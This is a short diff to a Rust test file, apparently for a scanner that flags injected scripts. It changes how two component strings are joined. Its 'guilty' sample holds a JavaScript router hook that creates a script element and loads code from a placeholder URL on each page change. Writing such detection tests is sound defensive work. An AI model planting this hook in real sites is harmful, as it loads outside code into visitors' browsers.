@@ -355,7 +355,7 @@ fn sobot_cases() -> Vec<Case> {
         Case {
             id: "sobot.injected-twice",
             guilty: vec![
-                component("") + &component(""),
+                component("") + component("").as_str(),
                 format!(
                     "router.afterEach(function () {{ var x = document.createElement('script'); x.src = '{ENTRANCE}'; document.body.appendChild(x) }})"
                 ),
